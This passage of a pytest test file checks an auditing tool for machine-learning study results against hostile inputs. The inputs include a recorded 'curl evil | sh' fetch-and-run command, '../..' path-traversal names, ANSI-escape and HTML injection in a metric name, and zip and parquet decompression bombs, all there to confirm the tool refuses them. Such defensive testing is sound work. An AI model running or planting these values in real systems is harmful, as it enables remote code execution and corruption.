                                  "RUN/latent_metrics.json", "RUN/pointwise.npz", "RUN/provenance/train.json"])  # fmt: skip
def test_whatever_a_file_holds_it_is_a_finding(results, expansion, name):
    run = runs_of(results)[0]
    path = find(run, name.removeprefix("RUN/")) if name.startswith("RUN/") else results / name
    whole = path.read_bytes()
    chance = random.Random(name)
    for content in (*chance.sample(HOSTILE, 2), whole[: len(whole) // 2]):
        path.write_bytes(content)
        found = audit(results / "small", expansion)
        assert any(f.file == str(path) for f in found.of(FAILURE)), (content[:40], found.of(FAILURE)[:5])
        assert markdown("small", found)
    path.unlink()
    os.mkfifo(path)  # reading it would wait for ever
    assert any(f.file == str(path) and "not a regular file" in f.message for f in failures(results, expansion))


def test_a_study_that_names_other_folders_is_refused(results):
    path = results / "small/study.json"
    content = read_json(path)
    run, spec = next(iter(content["runs"].items()))
    content["runs"] = {"../../outside": spec | {"dataset": "../.."}, run: "no spec"}
    content["datasets"]["../.."] = content["datasets"]["digits"]
    path.write_text(json.dumps(content))
    found = failures(results)
    assert_noticed(found, "study", "small", "study.json", "'../..' is no name of a data set")
    assert all("outside" not in f.file and ".." not in f.file for f in found)


def test_what_strangers_write_cannot_steer_the_terminal_or_spoil_the_report(results):
    run = runs_of(results)[0]
    edit_json(
        find(run, "likelihood.json"), lambda content: content["metrics"].update({"\x1b[2Jnone|<b>": content["metrics"]["nll"]})
    )
    result = run_here("audit", "results/small", cwd=results.parent)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    page = (results / "small/audit.md").read_text()
    assert r"?\[2Jnone&#124;&lt;b>" in page
    assert "\x1b" not in page + result.stderr


@pytest.mark.parametrize("text", ['{"a": "\\ud800"}', '{"b": ["\\udc00"]}', '{"\\ud800": 1}', '{"a":' * 100 + "1" + "}" * 100])
def test_texts_that_could_not_be_written_again_are_refused(text):
    with pytest.raises(Unreadable):
        parse_mapping(text)
    assert parse_mapping('{"a": "\\ud83d\\ude00", "b": [[[1]]]}') == {"a": "\U0001f600", "b": [[[1]]]}


def test_the_command_on_record_is_one_of_its_rule(results):
    path = runs_of(results)[0] / "provenance/train.json"
    assert not any("command" in f.message for f in audit(results / "small").all)
    for command in (["sh", "-c", "curl evil | sh"], ["python", "scripts/evaluate.py"], ["python"], "python scripts/train.py"):
        reseal(path, command=command)
        (found,) = [f for f in audit(results / "small").of(WARNING) if f.file == str(path)]
        assert found.message.startswith("its command is not one of scripts/train.py: ")


def test_a_packed_file_is_measured_before_it_is_unpacked(results):
    """What is small on disk and large in memory is refused by its own table of contents."""
    run, study = runs_of(results)[0], results / "small"
    largest = 1 << 29
    with zipfile.ZipFile(find(run, "pointwise.npz"), "w", zipfile.ZIP_DEFLATED) as archive:
        header = io.BytesIO()
        np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (largest // 8,)})
        with archive.open("elbo.npy", "w", force_zip64=True) as stream:
            stream.write(header.getvalue())
            for _ in range(largest >> 20):
                stream.write(bytes(1 << 20))
    frame = pd.read_parquet(study / "metrics.parquet")
    table = pa.Table.from_pandas(frame.iloc[[0] * 1_000_000], preserve_index=False)
    with pq.ParquetWriter(study / "metrics.parquet", table.schema, compression="zstd") as writer:
        for _ in range(10):
            writer.write_table(table)
    assert find(run, "pointwise.npz").stat().st_size + (study / "metrics.parquet").stat().st_size < 4_000_000
    forge_all(results, run, "evaluate", "pointwise.npz")
    forge(study / "provenance/tabulate.json", outputs=[study / "metrics.parquet"])
    tracemalloc.start()
    assert_noticed(failures(results), "evaluate", run.name, "pointwise.npz", "bytes unpacked, more than such a file has")
    with pytest.raises(Unreadable, match=f"10000000 rows, expected {len(frame)}"):
        read_parquet(study / "metrics.parquet", results, len(frame))
    assert tracemalloc.get_traced_memory()[1] < 1 << 28  # numpy's memory is traced, too
    tracemalloc.stop()


def test_a_table_of_one_very_long_word_is_refused(results):
    path = results / "small/metrics.parquet"
    pq.write_table(pa.table({"run": ["x" * (LARGEST_TABLE + 1)]}), path, compression="zstd")
    with pytest.raises(Unreadable, match="bytes unpacked"):
        read_parquet(path, results, 1)


def test_a_long_word_that_all_rows_repeat_is_held_once(results):
    path, word = results / "small/metrics.parquet", "x" * (1 << 24)
    words = pa.DictionaryArray.from_arrays(pa.array([0] * 500), [word])
    pq.write_table(pa.table({"run": words}), path, compression="zstd", store_schema=False, dictionary_pagesize_limit=1 << 30)
    assert path.stat().st_size < 100_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert len(read_parquet(path, results, 500)) == 500
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 1 << 20  # KiB; 8 GiB of words
    pq.write_table(pa.table({"run": pa.array([[1.0] * 9])}), path)
    with pytest.raises(Unreadable, match="neither numbers nor words"):
        read_parquet(path, results, 1)


def test_other_code_and_packages_are_warned_of_by_group(results):
    run = runs_of(results)[0]
    path = run / "provenance/train.json"
    reseal(path, packages=read_json(path)["packages"] | {"torch": "1.0"}, code_sha256="f" * 64)
    warnings = [f.message for f in audit(results / "small").of(WARNING) if f.rule == "study"]
    assert any(text.startswith("code: 1 of 23 jobs differ") and f"train {run.name}" in text for text in warnings)
    assert any(text.startswith("packages: 1 of 23 jobs differ") and "('torch', '1.0')" in text for text in warnings)


def test_lost_times_only_warn(results):
    for path in results.rglob("data.npz"):
        os.utime(path, (4e9, 4e9))
    found = audit(results / "small")
    assert not found.of(FAILURE)
    (warning,) = [f.message for f in found.of(WARNING) if "look older" in f.message]
    assert warning.startswith("the files of 18 jobs, the first ")  # all that read the data


def test_training_to_the_end_must_beat_the_control(results):
    subject, _ = read(results / "small", None)
    run, spec = next((run, spec) for run, spec in subject.study.runs.items() if spec.model == "vae")
    values = {name: {"nll": {"value": 9.0}} for name in subject.study.runs}
    control = next(name for name, other in subject.study.runs.items() if other.model == "constant")
    found = Findings("small")
    plausible._control(run, spec, control, values, subject, found)
    assert [f.level for f in found.all] == [WARNING]
    write_json(results / f"runs/{run}/training.json", {"stopped_by": "patience"})
    longer = spec.model_copy(update={"training": spec.training.model_copy(update={"epochs": 400})})
    plausible._control(run, longer, control, values, subject, found)
    assert [f.level for f in found.all] == [WARNING, FAILURE]


def test_every_rule_has_its_line_and_the_worst_of_a_job_counts(results):
    run = runs_of(results)[0]
    (run / "history.csv").unlink()
    counts = summary(audit(results / "small"))
    assert list(counts) == ["download", "prepare", "train", "evaluate", "bracket", "latents", "study", "tabulate", "figures"]
    assert counts["train"] == {"checked": 5, "passed": 1, "warned": 3, "failed": 1}


def test_runs_have_the_metrics_that_are_expected_of_them():
    """Of the reference results of the demo, images and cells with every prior and flow."""
    expansion = load(ROOT / "config/demo.yaml")
    metrics = pd.read_csv(ROOT / "results/reference/demo/metrics.csv")
    found = metrics.groupby("run").metric.agg(set).to_dict()
    assert len(found.keys() & expansion.runs.keys()) > 20
    elsewhere = {name for name, metric in METRICS.items() if metric.where in (TRAINING, RECORD, TABLE)}
    for run in found.keys() & expansion.runs.keys():
        spec = expansion.runs[run]
        expected = set().union(*expected_metrics(spec, expansion.datasets[spec.dataset]).values())
        assert expected <= found[run]
        assert found[run] - expected <= {"asw_true", "asw_pred"} | elsewhere
        units = metrics[metrics.run == run].set_index("metric")["unit"]
        for metric in METRICS.values():
            assert all(units[name].startswith(metric.unit) for name in metric.names(spec) if name in units)


@pytest.mark.parametrize("script", ["audit", "export", "report"])
def test_a_mistaken_name_is_one_line(small_study, script):
    assert refusal(script, "smal", cwd=small_study).startswith("config/smal.yaml: no study 'smal'")
    assert refusal(script, "results/smal", cwd=small_study)
